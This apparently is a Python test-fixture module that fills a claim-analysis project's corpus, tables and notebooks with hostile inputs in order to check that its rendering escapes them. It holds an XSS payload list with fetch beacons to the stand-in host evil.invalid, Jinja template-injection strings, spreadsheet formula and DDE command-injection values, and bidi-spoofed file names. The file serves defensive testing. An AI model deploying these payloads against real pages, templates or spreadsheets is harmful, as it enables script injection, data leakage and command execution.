"""A corpus whose every field wishes its reader ill, as a folder and as the tables and notebooks of a run.

Each payload, where it is run, leaves a mark on its page: ``window.fired``, a changed title, a request to
``evil.invalid``, a dialog, or (for templates) the text of `PROOF` where only its formula was.
"""

from __future__ import annotations

import csv
import io
import struct
from collections.abc import Callable
from pathlib import Path

import nbformat
import pandas as pd

from claimatlas import display, tables

PROOF = "1787569"  # 1337 * 1337: a template engine or spreadsheet that ran the payload shows it
FIRE = "(window.fired=(window.fired||[]).concat('@')),fetch('https://evil.invalid/@')"

PAYLOADS = {
    "script": f"<script>{FIRE}</script>",
    "image": f"<img src=x onerror=\"{FIRE}\">",
    "svg": f"<svg onload=\"{FIRE}\"><animate onbegin=\"{FIRE}\"/></svg>",
    "attribute": f"\" onmouseover=\"{FIRE}\" autofocus onfocus=\"{FIRE}\" x=\"",
    "single": f"' onmouseover='{FIRE}' '",
    "close": f"</td></table></textarea></title></style></script></iframe></template><script>{FIRE}</script>",
    "comment": f"--><script>{FIRE}</script><!--",
    "cdata": f"]]><script>{FIRE}</script>",
    "link": f"[x](javascript:{FIRE})<a href=\"javascript:{FIRE}\">y</a>",
    "remote": "![x](https://evil.invalid/@.png)<img src=https://evil.invalid/@.png><link rel=stylesheet href=//evil.invalid/@.css>",
    "jinja": "{{ 1337*1337 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{{ cycler.__init__.__globals__.os.getcwd() }}",
    "literal": f"`${{{FIRE}}}`${{{FIRE}}}\\`;{FIRE};//",
    "string": f"\\';{FIRE};//\\\";{FIRE};//</script>",
    "formula": "=1337*1337",
    "command": "@SUM(1337*1337)",
    "external": "=cmd|' /C calc'!A0",
    "plus": "+1337*1337",
    "minus": "-1337*1337",
    "tab": "\t=1337*1337",
    "fullwidth": "＝1337*1337",
    "json": f"</script><script>{FIRE}</script>\u2028\u2029\",\"x\":\"",
    "entity": f"&lt;script&gt;{FIRE}&lt;/script&gt;&#60;img src=x onerror={FIRE}&#62;",
    "frame": f"<iframe srcdoc=\"<script>{FIRE}</script>\"></iframe><object data=\"javascript:{FIRE}\"></object>",
    "style": "<style>*{background:url(https://evil.invalid/@)}</style>x\" style=\"background:url(https://evil.invalid/@)",
    "meta": "<meta http-equiv=refresh content=\"0;url=https://evil.invalid/@\"><base href=https://evil.invalid/>",
    "bidi": "abc\u202egpj.exe\u202c \u200b\u2066x",
    "math": "$1337*1337$ \\(\\unicode{x}\\) \\href{javascript:alert(1)}{x}",
}
ADDRESSES = [f"javascript:{FIRE}", "data:text/html,<script>1</script>", "https://evil.invalid/\"onmouseover=\"x", "//evil.invalid/x", "https://example.org/a?b=c&d=e"]


def payload(field: str, n: int = 0) -> str:
    """Return the `n`-th payload, marked with the field it stands in."""
    name = list(PAYLOADS)[n % len(PAYLOADS)]
    return PAYLOADS[name].replace("@", f"{field}-{name}") if name != "command" else PAYLOADS[name]


def all_payloads(field: str) -> str:
    """Return all payloads in a row, marked with the field."""
    return " ".join(payload(field, n) for n in range(len(PAYLOADS)))


def one_line(text: str) -> str:
    """Return `text` without line breaks, as a CSV cell of a careful user would have it."""
    return " ".join(text.split())


def corpus(folder: Path) -> Path:
    """Write a corpus folder with payloads in every field that a user can fill, review sheets included."""
    (folder / "text").mkdir(parents=True)
    (folder / "review").mkdir()
    rows = []
    for n in range(len(PAYLOADS)):
        file = f"{n:02d} <img src=x onerror=window.fired=1>`${{1}}{{{{7*7}}}}.txt"
        words = payload("text", n)
        text = (
            f"{words}\n\nThe Harbour Institute said on 5 March 2024 that at least {n + 2} lorries {one_line(words)} crossed "
            f"the bridge at Ishkashim. According to {one_line(words)} officials in Dushanbe, Kunduz is closed.\n"
        )
        (folder / "text" / file).write_text(text, encoding="utf-8")
        rows.append([
            f"h{n:02d}", one_line(payload("outlet", n)), one_line(payload("title", n)), one_line(payload("author", n)),
            "2024-03-05" if n % 2 else "", ADDRESSES[n % len(ADDRESSES)], file, one_line(payload("note", n)),
        ])
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["article_id", "outlet", "title", "author", "published", "url", "file", "note"])
    writer.writerows(rows)
    (folder / "articles.csv").write_text(out.getvalue(), encoding="utf-8")
    return folder


def _point(lon: float, lat: float) -> bytes:
    return struct.pack("<BIdd", 1, 1, lon, lat)


def frames(make: Callable[[str, int], str] = payload, size: int = 0) -> dict[str, pd.DataFrame]:
    """Return the tables of a run, every text in them from `make(field, n)`.

    Parameters
    ----------
    make : callable
        Gives the text of a field in row n.
    size : int
        Claims; 0 makes one for each payload.
    """
    size = size or len(PAYLOADS)
    n_articles = max(1, size // 12)
    rows: dict[str, list[dict]] = {name: [] for name in tables.SCHEMAS}
    texts = [""] * n_articles
    for n in range(size):
        a = n % n_articles
        key = f"h{a:04d}"
        content, place, holder = make("content", n), one_line(make("place", n)), make("holder", n)
        sentence = f"{holder} said {content} near {place}."
        start = len(texts[a])
        texts[a] += sentence + "\n"
        begin = start + len(holder) + 6
        at = begin + len(content) + 6
        claim = f"{key}:{begin}-{at + len(place)}"
        outlet = make("outlet", a)
        rows["claims"].append({
            "claim_id": claim, "article_id": key, "outlet": outlet, "start": begin, "end": at + len(place),
            "spans": [[begin, at + len(place)]], "content": f"{content} near {place}", "sentence_start": start,
            "sentence_end": start + len(sentence), "sentence": sentence, "holder": holder,
            "holder_kind": tables.HOLDER_KINDS[n % 4], "resolved_kind": tables.HOLDER_KINDS[n % 4], "holder_mention": holder,
            "holder_start": start, "holder_end": start + len(holder), "chain": [outlet, holder], "chain_explicit": [outlet, holder],
            "chain_basis": "explicit", "cue": make("cue", n), "cue_start": begin - 5, "cue_end": begin - 1, "hedged": n % 3 == 0,
            "hedge": make("hedge", n), "denial": n % 5 == 0, "negated": False, "background": False, "places": [place],
            "dates": [{"text": make("date", n), "value": "2023-11", "granularity": "month", "part": "early", "inferred": False}],
            "cue_dates": [], "numbers": [{"text": make("number", n), "qualifier": "", "low": 3.0, "high": 3.0, "unit": make("unit", n)}],
            "confidence": (n % 10) / 10, "made_by": "reviewed" if n % 9 == 0 else "machine",
            "holder_id": f"holder-{n}" if n % 4 < 2 else None, "chain_ids": [f"holder-{n}" if n % 4 < 2 else ""], "governments": [],
            "roles": [{"role": "verb", "text": make("role", n)}],
        })
        rows["mentions"].append({
            "mention_id": f"{key}:{at}-{at + len(place)}", "article_id": key, "start": at, "end": at + len(place), "surface": place,
            "sentence": sentence, "place_id": f"gn:{n % 40}", "status": "resolved", "confidence": 0.9,
            "role": "literal" if n % 4 else "associative",
            "alternatives": [{"place_id": f"gn:{n}", "name": make("alternative", n), "probability": 0.25}],
        })
        rows["holders"].append({
            "holder_id": f"holder-{n}", "name": holder, "kind": tables.HOLDER_KINDS[n % 2], "variants": [make("variant", n)],
            "office": make("office", n), "offices": [make("office", n)], "body": make("body", n),
            "speaks_for": f"holder-{n - 1}" if n % 3 == 1 else None, "gender": None, "n_claims": 1, "n_passed_on": 0, "n_outlets": 1,
            "confidence": 0.9, "made_by": "machine",
        })
        rows["joins"].append({
            "article_a": key, "name_a": holder, "article_b": f"{key}-{n}", "name_b": make("other name", n), "holder_a": f"holder-{n}",
            "holder_b": None, "confidence": 0.5, "joined": False, "evidence": [make("evidence", n)],
        })
        if n < 40:
            rows["places"].append({
                "place_id": f"gn:{n}", "name": place, "kind": "town", "country_code": "TJ", "admin1": make("admin1", n),
                "lat": 36.0 + n / 10, "lon": 68.0 + n / 9, "radius_km": float(n % 7), "geometry": _point(68.0 + n / 9, 36.0 + n / 10),
                "source": make("source", n), "source_id": make("source_id", n), "n_mentions": 1,
            })
        group = f"g{n // 2:04d}"
        # Two claims of different articles say the same; behind them stand one, no or two sources.
        both = [m for m in (n - n % 2, n - n % 2 + 1) if m < size]
        told = list(dict.fromkeys(make("outlet", m % n_articles) for m in both))
        behind = [make("holder", m) for m in both[: (1, 0, 2)[n // 2 % 3]]]
        rows["groups"].append({
            "group_id": group, "claim_id": claim, "label": make("label", n), "outlets": told, "n_outlets": len(told), "origins": behind,
            "n_origins": len(behind), "relays": [make("relay", n)], "anonymous": [make("anonymous", n)], "unsourced_outlets": [],
            "background_origins": [], "denied_by": [make("denier", n)], "unclear_origins": [make("doubtful", n)] if n // 2 % 3 == 0 and n % 4 else [], "shared_copy": [outlet],
        })
        if n % 2:
            pair = {"claim_a": rows["claims"][n - 1]["claim_id"], "claim_b": claim, "group_id": group}
            rows["conflicts"].append(pair | {
                "conflict_id": f"c{n:04d}", "slot": make("slot", n), "value_a": make("value", n), "value_b": make("value", n),
                "verdict": tables.VERDICTS[n % len(tables.VERDICTS)], "reason": make("reason", n), "confidence": 0.9,
                "claims_a": [pair["claim_a"]], "claims_b": [claim],
            })
            rows["drifts"].append(pair | {"drift_id": f"d{n:04d}", "kind": "hedge", "detail_a": make("detail", n), "detail_b": make("detail", n), "confidence": 0.9})
    for a in range(n_articles):
        rows["articles"].append({
            "article_id": f"h{a:04d}", "outlet": make("outlet", a), "title": make("title", a), "author": make("author", a),
            "published": None, "url": ADDRESSES[a % len(ADDRESSES)], "file": make("file", a), "note": make("note", a), "home": None,
            "text_kind": "digest" if a % 2 else "original", "text": texts[a], "n_words": len(texts[a].split()),
            "n_sentences": texts[a].count("\n"), "sha256": f"{a:064d}",
        })
    for n in range(min(4 * n_articles, 40)):
        rows["set_aside"].append({
            "article_id": f"h{n // 4:04d}", "stage": tables.STAGES[n % 4], "sentence": make("aside", n),
            "error": " ".join(make("error", 4 * n + k) for k in range(4)),
        })
    for n in range(min(size, 60)):
        told = {name: one_line(make(name, n)) for name in ("action", "target", "why", "by", "date")}
        state = tables.STATES[n % len(tables.STATES)]
        rows["corrections"].append({"sheet": "review/claims.csv", "line": n + 2, "state": state, **told})
    return {name: framed(name, found) for name, found in rows.items()}


def framed(name: str, rows: list[dict]) -> pd.DataFrame:
    """A table of rows; an optional column that none of them has is as empty as a run leaves it."""
    given = {column for row in rows for column in row}
    lacking = {field.name for field in tables.SCHEMAS[name].optional} - given
    columns = [column for column in tables.SCHEMAS[name].whole.names if column not in lacking]
    return tables.completed(name, pd.DataFrame(rows, columns=columns))[tables.SCHEMAS[name].whole.names]


def shown(show: Callable[[], None]) -> list[nbformat.NotebookNode]:
    """Run `show` and return what it displayed as outputs of a notebook cell."""
    outputs = []

    def keep(data: dict, raw: bool = False) -> None:
        outputs.append(nbformat.v4.new_output("display_data", data=data))

    before, display.display = display.display, keep
    try:
        show()
    finally:
        display.display = before
    return outputs


def notebooks(folder: Path, figures: Path, tables_of: dict[str, pd.DataFrame]) -> Path:
    """Write executed notebooks with payloads in Markdown, code, sentences, tables, captions, figures and foreign output."""
    from matplotlib.figure import Figure

    folder.mkdir(parents=True, exist_ok=True)
    new = nbformat.v4
    every = all_payloads("notebook").replace("\n", " ")
    grid = pd.DataFrame({"outlet": [payload("cell", n) for n in range(len(PAYLOADS))], payload("header", 0): range(len(PAYLOADS))})
    grid[payload("header", 5)] = [payload("cell", n) for n in range(len(PAYLOADS))]

    def draw() -> None:
        figure = Figure(figsize=(6, 3))
        axes = figure.subplots()
        axes.set_title(payload("figure", 0).replace("$", "\\$"))
        axes.bar([payload("axis", n).replace("$", "\\$") for n in range(4)], [3, 1, 2, 4])
        display.figure(figure, "hostile-figure", figures, payload("alt", 3) + payload("alt", 0))

    def words() -> None:
        display.say("{n} of " + every, n=display.rows(12, "claims", outlet=payload("outlet", 0)))

    parameters = new.new_code_cell('corpus: str = "../corpus"  # ' + one_line(payload("comment", 0)), id="parameters", metadata={"tags": ["parameters"]})
    injected = new.new_code_cell(f"corpus = {'/home/mallory/' + one_line(payload('folder', 1))!r}", id="injected-parameters", metadata={"tags": ["injected-parameters"]})
    foreign = [
        new.new_output("display_data", data={"text/html": every, "text/plain": every, "application/javascript": FIRE, "text/markdown": every, "text/latex": every, "image/svg+xml": PAYLOADS["svg"]}),
        new.new_output("stream", name="stdout", text=every + f"\n{Path.home()}/secret {Path.cwd()}/x"),
        new.new_output("stream", name="stderr", text=f"{Path.cwd()} warning"),
        new.new_output("display_data", data={display.MIME: {"kind": "markup", "html": every}, "text/plain": "other"}),
    ]
    both = [
        new.new_markdown_cell(f"# What is {every}?\n\nAnswer {every}\n\n**Reads** `{payload('reads', 0)}`\n**Writes** nothing\n**Next** [01](01-corpus.ipynb)", id="title"),
        parameters, injected,
        new.new_markdown_cell(f"## Part {every}\n\n{every}\n\n### Sub {every}\n\n| a | b |\n|---|---|\n| {every.replace('|', '')} | 2 |\n", id="part"),
        new.new_code_cell(f"x = {every!r}", id="words", outputs=shown(words)),
        new.new_code_cell("table()", id="table", outputs=shown(lambda: display.table(grid, payload("caption", 0), {grid.columns[1]: ("claims", ["outlet"])}))),
        new.new_code_cell("figure()", id="figure", outputs=shown(draw)),
        new.new_code_cell("foreign()", id="foreign", outputs=foreign),
        new.new_markdown_cell(f"## Limits\n\nNone. {every}", id="limits"),
    ]
    for name in ("00-overview", "01-corpus"):
        nbformat.write(new.new_notebook(cells=both), folder / f"{name}.ipynb")
    return folder


def run(folder: Path, make: Callable[[str, int], str] = payload, size: int = 0) -> dict[str, Path]:
    """Write the tables, figures and executed notebooks of a hostile run; returns the arguments of `report.build`."""
    places = {"corpus": folder / payload("folder", 1).replace("/", ""), "build": folder / "build", "figures": folder / "figures", "notebooks": folder / "notebooks"}
    for path in places.values():
        path.mkdir(parents=True, exist_ok=True)
    made = frames(make, size)
    for name, frame in made.items():
        tables.write(name, frame, places["build"])
    notebooks(places["notebooks"], places["figures"], made)
    return places
